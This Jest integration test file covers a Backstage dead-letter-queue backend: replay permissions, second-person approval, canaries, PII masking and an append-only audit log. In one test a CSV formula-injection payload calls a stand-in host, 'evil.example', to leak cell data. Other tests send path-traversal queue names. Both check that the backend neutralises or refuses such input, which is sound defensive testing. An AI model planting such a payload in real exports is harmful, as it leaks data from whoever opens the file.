/*
 * dlq-backend's routes and ReplayCoordinator against a real integration runtime
 * (embedded broker), with the demo catalog's queues and the app's ownership rule
 * (src/__testUtils__/dlqTestBackend.ts): who may replay comes from the queue's owner;
 * plans are frozen; a second person approves; canaries halt; every action leaves an
 * audit entry nobody can change. The tests share one backend and run in order (the
 * audit test reads the entries the replay tests left).
 */
import { mockCredentials } from '@backstage/backend-test-utils';
import { AdminClient, waitFor } from '@internal/integration-runtime/testing';
import { REPLAY_COUNT_KEYS, Replay } from '@internal/plugin-dlq-common';
import { startMockedDlqTestBackend } from './__testUtils__/dlqTestBackend';
import { ALICE, DLQ, DlqTestBackend, INES, JONAS, OTHER_DLQ } from './testing';

jest.setTimeout(90_000);

describe('dlq-backend routes and replays against the real runtime', () => {
  let h: DlqTestBackend;
  let admin: AdminClient;
  let base: string;
  const call: DlqTestBackend['call'] = (...args) => h.call(...args);
  const deadLetter = (count: number) => h.deadLetter(count);
  const waitReplay: DlqTestBackend['waitReplay'] = (...args) =>
    h.waitReplay(...args);

  beforeAll(async () => {
    h = await startMockedDlqTestBackend();
    ({ admin, base } = h);
  });

  afterAll(async () => {
    await h?.stop();
  });

  it('lists every DLQ with its owner and consumer, and reports the runtimes that fail', async () => {
    await deadLetter(2);
    const { status, body } = await call(ALICE, 'GET', '/dlqs');
    expect(status).toBe(200);
    const erp = body.items.find(
      (d: any) => d.runtime === 'integration-runtime' && d.name === DLQ,
    );
    expect(erp).toMatchObject({
      consumer: 'erp-connector',
      entities: {
        queue: `resource:default/${DLQ}`,
        deadLetterQueue: `resource:default/${DLQ}.dlq`,
        owner: 'group:default/finance-systems',
        consumer: 'component:default/erp-connector',
      },
    });
    expect(erp.failed).toBeGreaterThanOrEqual(2);
    expect(erp.inflow).toHaveLength(24);
    expect(erp.inflow.at(-1).count).toBeGreaterThanOrEqual(2);
    expect(
      body.items.filter((d: any) => d.runtime === 'integration-runtime'),
    ).toHaveLength(9);
    const errors = Object.fromEntries(
      body.errors.map((e: any) => [e.runtime, e.message]),
    );
    expect(errors.down).toMatch(/runtime 'down' is unreachable/);
    expect(errors['five-hundred']).toMatch(
      /failed GET \/v1\/dlqs with 500: disk full/,
    );
    expect(errors.garbage).toMatch(/not JSON|off its admin API contract/);
    // The Component tab's query.
    const forComponent = await call(
      ALICE,
      'GET',
      '/dlqs?entityRef=component:default/erp-connector&inflowHours=0',
    );
    expect(forComponent.body.items.map((d: any) => d.name).sort()).toEqual([
      DLQ,
      'erp-connector.payment-refunded',
    ]);
  });

  it('finds a message by order id and shows it with PII masked, its attempts and its trace', async () => {
    const [orderId] = await deadLetter(1);
    const page = await call(
      ALICE,
      'GET',
      `/runtimes/integration-runtime/dlqs/${DLQ}/messages?businessId=${orderId}`,
    );
    expect(page.status).toBe(200);
    expect(page.body.items).toHaveLength(1);
    const detail = await call(
      ALICE,
      'GET',
      `/runtimes/integration-runtime/messages/${page.body.items[0].id}`,
    );
    expect(detail.status).toBe(200);
    expect(detail.body.message.orderId).toBe(orderId);
    expect(JSON.parse(detail.body.formattedBody).customerId).toBe('••••••');
    expect(detail.body.formattedBody).not.toContain('C1234');
    expect(detail.body.masked).toEqual(['customerId']);
    expect(detail.body.attempts[0]).toMatchObject({ count: 2 });
    expect(detail.body.traceUrl).toBe(
      `/journeys?q=${detail.body.message.traceId}`,
    );
  });

  // Runs before the other replay tests: Ines has no replays on the queue yet, and the
  // plans here are cancelled before they start, so they count for nobody afterwards.
  it('holds the approval threshold per requester and queue over the window (3 + 1 needs approval)', async () => {
    const ids = await h.idsOf(await deadLetter(4));
    const planIds = (user: string, selected: string[]) =>
      call(user, 'POST', '/replays/plan', {
        runtime: 'integration-runtime',
        dlq: DLQ,
        selection: { ids: selected },
      });
    const first = await planIds(INES, ids.slice(0, 3));
    expect(first.status).toBe(201);
    expect(first.body).toMatchObject({
      approvalRequired: false,
      plan: { count: 3 },
    });
    // The split: one more by the same person on the same queue crosses the threshold.
    const second = await planIds(INES, ids.slice(3));
    expect(second.body.approvalRequired).toBe(true);
    // Someone else is counted apart.
    const jonas = await planIds(JONAS, ids.slice(3));
    expect(jonas.body.approvalRequired).toBe(false);

    const submitted = await call(
      INES,
      'POST',
      `/replays/${second.body.id}/submit`,
      { reason: 'the last one' },
    );
    expect(submitted.body.status).toBe('awaiting-approval');
    const { body: trail } = await call(
      INES,
      'GET',
      `/audit?replayId=${second.body.id}`,
    );
    expect(trail.items.map((e: any) => e.detail).join(' | ')).toMatch(
      /1 messages \+ 3 unapproved by the same requester on this queue in the last 60 min > 3/,
    );

    for (const [user, id] of [
      [INES, first.body.id],
      [INES, second.body.id],
      [JONAS, jonas.body.id],
    ]) {
      expect(
        (await call(user, 'POST', `/replays/${id}/cancel`, {})).body.status,
      ).toBe('cancelled');
    }
    // Cancelled before they started: they no longer count.
    const after = await planIds(INES, ids.slice(3));
    expect(after.body.approvalRequired).toBe(false);
    await call(INES, 'POST', `/replays/${after.body.id}/cancel`, {});
  });

  it('refuses a replay to someone outside the owning group', async () => {
    const plan = await call(ALICE, 'POST', '/replays/plan', {
      runtime: 'integration-runtime',
      dlq: DLQ,
      selection: { filter: { errorClass: 'TransientError' } },
    });
    expect(plan.status).toBe(403);
    expect(plan.body.error.message).toContain(
      'only members of group:default/finance-systems',
    );
  });

  it('freezes a group plan, needs a second person, and replays each message exactly once', async () => {
    const orders = await deadLetter(4);
    const { body: groups } = await call(
      INES,
      'GET',
      `/runtimes/integration-runtime/dlqs/${DLQ}/groups`,
    );
    const group = groups.items[0];
    const planned = await call(INES, 'POST', '/replays/plan', {
      runtime: 'integration-runtime',
      dlq: DLQ,
      selection: { fingerprint: group.fingerprint },
      ratePerSecond: 200,
    });
    expect(planned.status).toBe(201);
    const replay: Replay = planned.body;
    const frozen = replay.plan.count;
    expect(frozen).toBe(group.count);
    expect(replay).toMatchObject({
      status: 'planned',
      approvalRequired: true,
      requester: INES,
    });

    // Messages arriving after the plan are not picked up.
    const late = await deadLetter(2);

    expect(
      (await call(INES, 'POST', `/replays/${replay.id}/submit`, { reason: '' }))
        .status,
    ).toBe(400);
    const submitted = await call(INES, 'POST', `/replays/${replay.id}/submit`, {
      reason: 'ERP fixed (INC-42)',
    });
    expect(submitted.body.status).toBe('awaiting-approval');
    // The owning group hears of it, the requester does not.
    const sentFor = (event: string) =>
      h.notifications.filter(
        n => n.payload.scope === `dlq-replay:${replay.id}:${event}`,
      );
    expect(sentFor('approval-requested')).toEqual([
      {
        recipients: {
          type: 'entity',
          entityRef: 'group:default/finance-systems',
          excludeEntityRef: INES,
        },
        payload: expect.objectContaining({
          title: `Replay of ${frozen} messages from ${DLQ} needs your approval`,
          link: `/dead-letters/replays/${replay.id}`,
        }),
      },
    ]);

    const self = await call(INES, 'POST', `/replays/${replay.id}/approve`, {});
    expect(self.status).toBe(403);
    expect(self.body.error.message).toContain(
      'cannot approve it; a second person must',
    );
    const outsider = await call(
      ALICE,
      'POST',
      `/replays/${replay.id}/approve`,
      {},
    );
    expect(outsider.status).toBe(403);

    await admin.put('/v1/faults/erp-connector', { errorRate: 0 });
    const approved = await call(
      JONAS,
      'POST',
      `/replays/${replay.id}/approve`,
      { comment: 'checked the ERP' },
    );
    expect(approved.status).toBe(200);
    expect(approved.body.approver).toBe(JONAS);
    const done = await waitReplay(
      INES,
      replay.id,
      r => r.status === 'completed',
    );
    expect(done.progress).toMatchObject({ total: frozen, done: frozen });
    expect(done.progress.counts.replayed).toBe(frozen);
    expect(sentFor('approved')).toMatchObject([
      {
        recipients: { type: 'entity', entityRef: INES },
        payload: { description: `Approved by ${JONAS}: checked the ERP` },
      },
    ]);
    await waitFor(
      async () => sentFor('finished'),
      sent => sent.length === 1,
      { what: 'the finished notification' },
    );
    expect(sentFor('finished')[0]).toMatchObject({
      recipients: { type: 'entity', entityRef: INES },
      payload: {
        title: `Replay of ${frozen} messages from ${DLQ} completed: succeeded ${frozen} of ${frozen}`,
        severity: 'normal',
      },
    });

    // Each order's ERP booking happened once; the late ones are still dead letters.
    const sideEffects = (orderId: string) =>
      admin.get(`/v1/side-effects?businessId=${orderId}`);
    for (const orderId of orders) {
      await waitFor(
        async () => (await sideEffects(orderId)).body,
        b => b.items.some((e: any) => e.service === 'erp-connector'),
        { what: `ERP side effect of ${orderId}` },
      );
    }
    const effects = (await admin.get('/v1/side-effects?limit=1')).body;
    expect(effects.duplicates).toBe(0);
    for (const orderId of late) {
      const page = await call(
        INES,
        'GET',
        `/runtimes/integration-runtime/dlqs/${DLQ}/messages?businessId=${orderId}`,
      );
      expect(page.body.items).toHaveLength(1);
    }
    const items = await call(
      INES,
      'GET',
      `/replays/${replay.id}/items?limit=500`,
    );
    expect(items.body.items).toHaveLength(frozen);
    expect(new Set(items.body.items.map((i: any) => i.outcome))).toEqual(
      new Set(['replayed']),
    );

    // Replaying the same messages again cannot happen: they are gone from the DLQ.
    const again = await call(INES, 'POST', '/replays/plan', {
      runtime: 'integration-runtime',
      dlq: DLQ,
      selection: {
        ids: items.body.items.map((i: any) => i.failureId).slice(0, 1),
      },
    });
    expect(again.status).toBe(201);
    expect(again.body.plan.count).toBe(0);
    expect(again.body.plan.skipped[0].reason).toBe('missing');
  });

  it('halts after a failing canary and leaves the rest untouched; cancels on request', async () => {
    await admin.put('/v1/faults/erp-connector', { errorRate: 1 });
    const orders = await deadLetter(3);
    const ids = await h.idsOf(orders);
    const plan = await call(INES, 'POST', '/replays/plan', {
      runtime: 'integration-runtime',
      dlq: DLQ,
      selection: { ids },
    });
    expect(plan.body.approvalRequired).toBe(false);
    const submitted = await call(
      INES,
      'POST',
      `/replays/${plan.body.id}/submit`,
      {
        reason: 'try one first',
        canarySize: 1,
      },
    );
    expect(submitted.body.status).toBe('canary');
    const halted = await waitReplay(
      INES,
      plan.body.id,
      r => r.status === 'canary-failed',
    );
    expect(halted.error).toContain('1 of 1 canary messages failed again');
    expect(halted.jobs.main).toBeNull();
    // The rest was never attempted: nothing is pending any more.
    expect(halted.progress.counts).toMatchObject({
      pending: 0,
      'not-attempted': 2,
      'failed-again': 1,
    });
    expect(halted.progress.done).toBe(3);
    await waitFor(
      async () =>
        h.notifications.filter(
          n => n.payload.scope === `dlq-replay:${plan.body.id}:canary-stopped`,
        ),
      sent => sent.length === 1,
      { what: 'the canary notification' },
    ).then(([sent]) =>
      expect(sent).toMatchObject({
        recipients: { type: 'entity', entityRef: INES },
        payload: {
          title: `Replay of 3 messages from ${DLQ} stopped by canary: failed again 1 of 3, 2 not attempted`,
        },
      }),
    );

    // A plan can be cancelled before it runs.
    const second = await call(INES, 'POST', '/replays/plan', {
      runtime: 'integration-runtime',
      dlq: DLQ,
      selection: { ids: ids.slice(1) },
    });
    const cancelled = await call(
      INES,
      'POST',
      `/replays/${second.body.id}/cancel`,
      { reason: 'not now' },
    );
    expect(cancelled.body.status).toBe('cancelled');
    expect(cancelled.body.progress.counts).toMatchObject({
      pending: 0,
      'not-attempted': 2,
    });
    expect(
      (
        await call(INES, 'POST', `/replays/${second.body.id}/submit`, {
          reason: 'go now',
        })
      ).status,
    ).toBe(409);
  });

  it('calls a replay whose messages fail again completed with failures, with counters that add up everywhere', async () => {
    await admin.put('/v1/faults/erp-connector', { errorRate: 1 });
    const ids = await h.idsOf(await deadLetter(2));
    const plan = await call(JONAS, 'POST', '/replays/plan', {
      runtime: 'integration-runtime',
      dlq: DLQ,
      selection: { ids },
    });
    expect(plan.body.approvalRequired).toBe(false);
    await call(JONAS, 'POST', `/replays/${plan.body.id}/submit`, {
      reason: 'ERP says it is fixed',
    });
    const done = await waitReplay(
      JONAS,
      plan.body.id,
      r => r.status === 'completed-with-failures',
    );
    const sum = (r: Replay) =>
      REPLAY_COUNT_KEYS.reduce((n, k) => n + r.progress.counts[k], 0);
    expect(done.progress).toMatchObject({ total: 2, done: 2 });
    expect(done.progress.counts['failed-again']).toBe(2);
    expect(done.progress.counts.replayed).toBe(0);
    expect(sum(done)).toBe(2);
    // The list says the same as the replay page.
    const listed = (
      await call(JONAS, 'GET', `/replays?dlq=${DLQ}&limit=200`)
    ).body.items.find((r: Replay) => r.id === plan.body.id);
    expect(listed.status).toBe('completed-with-failures');
    expect(listed.progress).toEqual(done.progress);
    // So do the items, the audit trail and the notification.
    const items = await call(
      JONAS,
      'GET',
      `/replays/${plan.body.id}/items?limit=500`,
    );
    expect(items.body.items.map((i: any) => i.outcome)).toEqual([
      'failed-again',
      'failed-again',
    ]);
    const { body: trail } = await call(
      JONAS,
      'GET',
      `/audit?replayId=${plan.body.id}`,
    );
    const finish = trail.items.find((e: any) => e.action === 'replay.finish');
    expect(finish).toMatchObject({ outcome: 'failed' });
    expect(finish.detail).toMatch(/^completed-with-failures: .*2 failed again/);
    const sent = await waitFor(
      async () =>
        h.notifications.filter(
          n => n.payload.scope === `dlq-replay:${plan.body.id}:finished`,
        ),
      s => s.length > 0,
      { what: 'the finished notification' },
    );
    expect(sent.at(-1)).toMatchObject({
      recipients: { type: 'entity', entityRef: JONAS },
      payload: {
        title: `Replay of 2 messages from ${DLQ} completed with failures: failed again 2 of 2`,
        severity: 'high',
      },
    });
    // Not listed as waiting for approval, and never offered to approve.
    expect(
      (await call(INES, 'POST', `/replays/${plan.body.id}/approve`, {})).status,
    ).toBe(409);
  });

  it('says what a user may change on a queue and, if not, whom to ask', async () => {
    const path_ = `/runtimes/integration-runtime/dlqs/${DLQ}/access`;
    const owner = await call(INES, 'GET', path_);
    expect(owner.status).toBe(200);
    expect(owner.body).toEqual({
      owner: 'group:default/finance-systems',
      queue: `resource:default/${DLQ}`,
      replay: { allowed: true },
      manage: { allowed: true },
      approve: { allowed: true },
    });
    const outsider = await call(ALICE, 'GET', path_);
    expect(outsider.body.replay.allowed).toBe(false);
    expect(outsider.body.manage.reason).toBe(
      'Only members of group:default/finance-systems, which owns this queue, may archive or purge its messages; you are not one of them. Ask a member of group:default/finance-systems.',
    );
    expect(
      (
        await call(
          ALICE,
          'GET',
          '/runtimes/integration-runtime/dlqs/..%2Fx/access',
        )
      ).status,
    ).toBe(400);
    expect(
      (await call(ALICE, 'GET', `/runtimes/nope/dlqs/${DLQ}/access`)).status,
    ).toBe(404);
  });

  it('archives and purges only for owners, and audits every action, append-only', async () => {
    const [orderId] = await deadLetter(1);
    const page = await call(
      INES,
      'GET',
      `/runtimes/integration-runtime/dlqs/${DLQ}/messages?businessId=${orderId}`,
    );
    const id = page.body.items[0].id;
    const denied = await call(
      ALICE,
      'POST',
      `/runtimes/integration-runtime/dlqs/${DLQ}/messages/archive`,
      {
        ids: [id],
        reason: 'noise',
      },
    );
    expect(denied.status).toBe(403);
    const purgeDenied = await call(
      ALICE,
      'POST',
      `/runtimes/integration-runtime/dlqs/${DLQ}/messages/purge`,
      { ids: [id], reason: 'noise' },
    );
    expect(purgeDenied.status).toBe(403);
    const wrongQueue = await call(
      INES,
      'POST',
      `/runtimes/integration-runtime/dlqs/${OTHER_DLQ}/messages/purge`,
      {
        ids: [id],
        reason: 'cleanup',
      },
    );
    expect(wrongQueue.status).toBe(400);
    expect(wrongQueue.body.error.message).toContain(`belongs to '${DLQ}'`);
    const archived = await call(
      INES,
      'POST',
      `/runtimes/integration-runtime/dlqs/${DLQ}/messages/archive`,
      {
        ids: [id],
        reason: 'known test order',
      },
    );
    expect(archived.body).toEqual({ archived: [id] });
    const purged = await call(
      INES,
      'POST',
      `/runtimes/integration-runtime/dlqs/${DLQ}/messages/purge`,
      {
        ids: [id],
        reason: 'test data',
      },
    );
    expect(purged.body).toEqual({ purged: [id] });

    const { body: trail } = await call(ALICE, 'GET', '/audit?limit=1000');
    const seen = trail.items.map((e: any) => `${e.action}:${e.outcome}`);
    for (const expected of [
      'replay.submit:succeeded',
      'replay.approve:denied',
      'replay.approve:succeeded',
      'replay.finish:succeeded',
      'replay.finish:failed',
      'replay.cancel:succeeded',
      'replay.plan:succeeded',
      'replay.plan:denied',
      'message.archive:denied',
      'message.archive:succeeded',
      'message.purge:denied',
      'message.purge:succeeded',
    ]) {
      expect(seen).toContain(expected);
    }
    // The purge through another queue, refused because the message is not in it.
    expect(trail.items).toContainEqual(
      expect.objectContaining({
        action: 'message.purge',
        outcome: 'denied',
        actor: INES,
        dlq: OTHER_DLQ,
        detail: expect.stringContaining(`belongs to '${DLQ}'`),
      }),
    );
    expect(trail.items).toContainEqual(
      expect.objectContaining({
        action: 'message.purge',
        outcome: 'denied',
        actor: ALICE,
        dlq: DLQ,
      }),
    );
    const approval = trail.items.find(
      (e: any) => e.action === 'replay.approve' && e.outcome === 'succeeded',
    );
    expect(approval).toMatchObject({
      actor: JONAS,
      reason: 'checked the ERP',
      runtime: 'integration-runtime',
      dlq: DLQ,
    });
    expect(Date.parse(approval.at)).not.toBeNaN();

    const csv = await call(ALICE, 'GET', '/audit?format=csv');
    expect(csv.type).toContain('text/csv');
    expect(csv.body.split('\r\n')[0]).toBe(
      'id,at,actor,action,runtime,dlq,replayId,messageCount,reason,outcome,detail',
    );
    expect(csv.body).toContain('known test order');

    // No route alters or deletes an entry.
    for (const method of ['PUT', 'PATCH', 'DELETE']) {
      expect(
        (await call(INES, method, `/audit/${approval.id}`, { reason: 'x' }))
          .status,
      ).toBe(404);
      expect((await call(INES, method, '/audit', {})).status).toBe(404);
    }
    const after = await call(ALICE, 'GET', '/audit?limit=1000');
    expect(after.body.items.length).toBe(trail.items.length);
  });

  it('audits every state-changing replay attempt, allowed or denied', async () => {
    const ids = await h.idsOf(await deadLetter(4));
    const planned = async (ratePerSecond?: number) => {
      const res = await call(INES, 'POST', '/replays/plan', {
        runtime: 'integration-runtime',
        dlq: DLQ,
        selection: { ids },
        ...(ratePerSecond ? { ratePerSecond } : {}),
      });
      expect(res.body.approvalRequired).toBe(true);
      return res.body.id as string;
    };
    const expectStatus = async (
      status: number,
      user: string,
      url: string,
      body: unknown = {},
    ) => {
      const res = await call(user, 'POST', url, body);
      expect({ url, user, status: res.status }).toEqual({ url, user, status });
    };
    const FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"details")';

    // One to reject, one to approve (slowly, so it is still running) and cancel.
    const rejected = await planned();
    const approved = await planned(1);
    await expectStatus(403, ALICE, '/replays/plan', {
      runtime: 'integration-runtime',
      dlq: DLQ,
      selection: { ids },
    });
    await expectStatus(403, JONAS, `/replays/${rejected}/submit`, {
      reason: 'not my plan',
    });
    for (const id of [rejected, approved]) {
      await expectStatus(200, INES, `/replays/${id}/submit`, {
        reason: 'ERP fixed (INC-43)',
      });
    }
    await expectStatus(409, INES, `/replays/${rejected}/submit`, {
      reason: 'once more',
    });
    await expectStatus(403, INES, `/replays/${rejected}/reject`, {
      comment: 'my own',
    });
    await expectStatus(403, ALICE, `/replays/${rejected}/reject`, {
      comment: 'not my team',
    });
    await expectStatus(200, JONAS, `/replays/${rejected}/reject`, {
      comment: 'too many at once',
    });
    await expectStatus(403, INES, `/replays/${approved}/approve`);
    await expectStatus(403, ALICE, `/replays/${approved}/approve`);
    await expectStatus(200, JONAS, `/replays/${approved}/approve`, {
      comment: 'go ahead',
    });
    await expectStatus(403, ALICE, `/replays/${approved}/cancel`, {
      reason: 'not mine',
    });
    await expectStatus(200, INES, `/replays/${approved}/cancel`, {
      reason: FORMULA,
    });

    const trailOf = async (id: string) =>
      (await call(ALICE, 'GET', `/audit?replayId=${id}`)).body.items
        .map((e: any) => `${e.action}:${e.outcome}:${e.actor}`)
        .sort();
    expect(await trailOf(rejected)).toEqual(
      [
        `replay.plan:succeeded:${INES}`,
        `replay.submit:denied:${JONAS}`,
        `replay.submit:succeeded:${INES}`,
        `replay.submit:failed:${INES}`,
        `replay.reject:denied:${INES}`,
        `replay.reject:denied:${ALICE}`,
        `replay.reject:succeeded:${JONAS}`,
      ].sort(),
    );
    expect(await trailOf(approved)).toEqual(
      expect.arrayContaining(
        [
          `replay.plan:succeeded:${INES}`,
          `replay.submit:succeeded:${INES}`,
          `replay.approve:denied:${INES}`,
          `replay.approve:denied:${ALICE}`,
          `replay.approve:succeeded:${JONAS}`,
          `replay.cancel:denied:${ALICE}`,
          `replay.cancel:succeeded:${INES}`,
        ].sort(),
      ),
    );
    // A refused plan has no replay id; it is on the queue's trail.
    const { body: queueTrail } = await call(
      ALICE,
      'GET',
      `/audit?dlq=${DLQ}&limit=50`,
    );
    expect(queueTrail.items).toContainEqual(
      expect.objectContaining({
        action: 'replay.plan',
        outcome: 'denied',
        actor: ALICE,
        replayId: null,
        detail: expect.stringContaining('only members of'),
      }),
    );

    // The audit CSV shows the formula as text: quoted, behind a single quote.
    const csv = await call(
      ALICE,
      'GET',
      `/audit?format=csv&replayId=${approved}`,
    );
    expect(csv.type).toContain('text/csv');
    expect(csv.body).toContain(
      `"'=HYPERLINK(""http://evil.example/?leak=""&B2,""details"")"`,
    );
    expect(csv.body).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it('refuses queue names of dots before any runtime sees them', async () => {
    const dots = ['.', '..', '...', '%2e', '%2e%2e', '%2E%2e', '.%2e', '%2e.'];
    const paths = dots.flatMap(d => [
      `/runtimes/recorder/dlqs/${d}`,
      `/runtimes/recorder/dlqs/${d}/groups`,
      `/runtimes/recorder/dlqs/${d}/messages`,
      `/runtimes/recorder/dlqs/${d}/messages?limit=1`,
      `/runtimes/integration-runtime/dlqs/${d}/messages`,
    ]);
    const recordedBefore = h.recorded.length;
    for (const p of paths) {
      const res = await h.raw({
        method: 'GET',
        path: p,
        headers: { authorization: mockCredentials.user.header(INES) },
      });
      expect({ p, status: res.status }).toEqual({ p, status: 400 });
      expect(res.body.error.message).toMatch(/not only dots/);
    }
    for (const d of dots) {
      for (const action of ['archive', 'purge']) {
        const res = await h.raw({
          method: 'POST',
          path: `/runtimes/recorder/dlqs/${d}/messages/${action}`,
          headers: {
            authorization: mockCredentials.user.header(INES),
            'content-type': 'application/json',
          },
          body: JSON.stringify({
            ids: ['00000000-0000-4000-8000-000000000000'],
            reason: 'cleanup',
          }),
        });
        expect({ d, action, status: res.status }).toEqual({
          d,
          action,
          status: 400,
        });
      }
    }
    for (const dlq of ['.', '..', '....']) {
      const plan = await call(INES, 'POST', '/replays/plan', {
        runtime: 'recorder',
        dlq,
        selection: { fingerprint: '0123456789abcdef' },
      });
      expect(plan.status).toBe(400);
      expect(plan.body.error.message).toMatch(/dlq: a queue name/);
    }
    expect(h.recorded.slice(recordedBefore)).toEqual([]);

    // A name with dots inside is a name: it reaches the runtime as one segment.
    const ok = await call(INES, 'GET', '/runtimes/recorder/dlqs/a..b');
    expect(ok.status).toBe(404);
    expect(h.recorded.slice(recordedBefore)).toEqual([
      '/admin/v1/dlqs/a..b',
      '/admin/v1/dlqs/a..b/inflow?hours=24&bucketMinutes=60',
    ]);
  });

  it('answers replay parameters out of range with a 400 that gives the range', async () => {
    const plan = (extra: object) =>
      call(INES, 'POST', '/replays/plan', {
        runtime: 'integration-runtime',
        dlq: DLQ,
        selection: { ids: ['00000000-0000-4000-8000-000000000000'] },
        ...extra,
      });
    for (const ratePerSecond of [1e-300, 0, -1, 0.5, 501, '10', null, true]) {
      const res = await plan({ ratePerSecond });
      expect({ ratePerSecond, status: res.status }).toEqual({
        ratePerSecond,
        status: 400,
      });
      expect(res.body.error.message).toContain(
        'ratePerSecond must be a number from 1 to 500',
      );
    }
    // 1e309 is Infinity once parsed.
    const infinite = await call(
      INES,
      'POST',
      '/replays/plan',
      `{"runtime":"integration-runtime","dlq":"${DLQ}","selection":{"fingerprint":"0123456789abcdef"},"ratePerSecond":1e309}`,
    );
    expect(infinite.status).toBe(400);
    expect(infinite.body.error.message).toContain('from 1 to 500');
    const tooMany = await plan({
      selection: {
        ids: Array.from(
          { length: 1001 },
          (_, i) => `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`,
        ),
      },
    });
    expect(tooMany.status).toBe(400);
    expect(tooMany.body.error.message).toContain('1 to 1000 message ids');

    const replayId = '00000000-0000-4000-8000-000000000000';
    for (const [body, range] of [
      [
        { reason: 'ok', canarySize: -1 },
        /canarySize must be an integer from 0 to 1000/,
      ],
      [
        { reason: 'abc', canarySize: 1.5 },
        /canarySize must be an integer from 0 to 1000/,
      ],
      [
        { reason: 'abc', canarySize: 1001 },
        /canarySize must be an integer from 0 to 1000/,
      ],
      [{ reason: 'x'.repeat(1001) }, /at most 1000 characters/],
      [{ reason: '  a ' }, /reason of 3 to 1000 characters/],
      [{ reason: 'a\u0000bc' }, /control characters/],
    ] as const) {
      const res = await call(INES, 'POST', `/replays/${replayId}/submit`, body);
      expect({ body, status: res.status }).toEqual({ body, status: 400 });
      expect(res.body.error.message).toMatch(range);
    }
    for (const [query, range] of [
      ['limit=0', /limit must be an integer from 1 to 500/],
      ['limit=1e3', /limit must be an integer from 1 to 500/],
      ['after=-2', /after must be an integer from -1 to/],
      ['after=99999999999999999999', /after must be an integer from -1 to/],
    ] as const) {
      const res = await call(
        INES,
        'GET',
        `/replays/${replayId}/items?${query}`,
      );
      expect({ query, status: res.status }).toEqual({ query, status: 400 });
      expect(res.body.error.message).toMatch(range);
    }
  });

  it('answers bad input and broken runtimes with clear errors', async () => {
    const cases: Array<[string, string, unknown, number, RegExp]> = [
      [
        'GET',
        `/runtimes/integration-runtime/messages/not-a-uuid`,
        undefined,
        400,
        /id: must be a UUID/,
      ],
      [
        'GET',
        `/runtimes/nope/dlqs/${DLQ}`,
        undefined,
        404,
        /no runtime 'nope'/,
      ],
      [
        'GET',
        `/runtimes/integration-runtime/dlqs/no-such-queue`,
        undefined,
        404,
        /no-such-queue/,
      ],
      [
        'GET',
        `/runtimes/integration-runtime/dlqs/bad%20name/messages`,
        undefined,
        400,
        /queue name/,
      ],
      [
        'GET',
        `/runtimes/integration-runtime/dlqs/${DLQ}/messages?from=2026-11-23T10:00:00Z&to=2026-11-23T09:00:00Z`,
        undefined,
        400,
        /from must be before to/,
      ],
      [
        'GET',
        `/runtimes/integration-runtime/dlqs/${DLQ}/messages?limit=100000`,
        undefined,
        400,
        /limit/,
      ],
      [
        'GET',
        `/runtimes/integration-runtime/dlqs/${DLQ}/messages?cursor=garbage`,
        undefined,
        400,
        /cursor/,
      ],
      [
        'GET',
        `/runtimes/integration-runtime/messages/00000000-0000-4000-8000-000000000000`,
        undefined,
        404,
        /no failed message/,
      ],
      [
        'POST',
        '/replays/plan',
        { runtime: 'integration-runtime', dlq: DLQ, selection: {} },
        400,
        /give ids, or a fingerprint/,
      ],
      [
        'POST',
        '/replays/plan',
        { runtime: 'integration-runtime', dlq: DLQ, selection: { ids: ['x'] } },
        400,
        /selection.ids.0/,
      ],
      [
        'POST',
        '/replays/plan',
        {
          runtime: 'integration-runtime',
          dlq: DLQ,
          selection: { fingerprint: 'abc' },
        },
        400,
        /16 hex/,
      ],
      ['POST', '/replays/plan', '{"runtime":', 400, /not JSON/],
      [
        'POST',
        '/replays/plan',
        {
          runtime: 'integration-runtime',
          dlq: DLQ,
          selection: {
            ids: Array(9000).fill('00000000-0000-4000-8000-000000000000'),
          },
        },
        413,
        /request body over/,
      ],
      [
        'POST',
        '/replays/00000000-0000-4000-8000-000000000000/submit',
        { reason: 'abc' },
        404,
        /no replay/,
      ],
      ['GET', '/dlqs?inflowHours=-1', undefined, 400, /inflowHours/],
      [
        'GET',
        `/runtimes/down/dlqs/${DLQ}`,
        undefined,
        503,
        /runtime 'down' is unreachable/,
      ],
      [
        'GET',
        `/runtimes/five-hundred/dlqs/${DLQ}`,
        undefined,
        502,
        /failed GET \/v1\/dlqs\/\{dlq\} with 500: disk full/,
      ],
      ['GET', `/runtimes/garbage/dlqs/${DLQ}`, undefined, 502, /not JSON/],
      [
        'GET',
        `/runtimes/garbage/dlqs/${DLQ}/groups`,
        undefined,
        502,
        /off its admin API contract/,
      ],
    ];
    for (const [method, url, body, status, message] of cases) {
      const res = await call(INES, method, url, body);
      expect({ url, status: res.status }).toEqual({ url, status });
      expect({ url, message: res.body?.error?.message }).toEqual({
        url,
        message: expect.stringMatching(message),
      });
    }
    // A bad token.
    const anonymous = await fetch(`${base}/dlqs`, {
      headers: { authorization: mockCredentials.user.invalidHeader() },
    });
    expect(anonymous.status).toBe(401);
  });
});
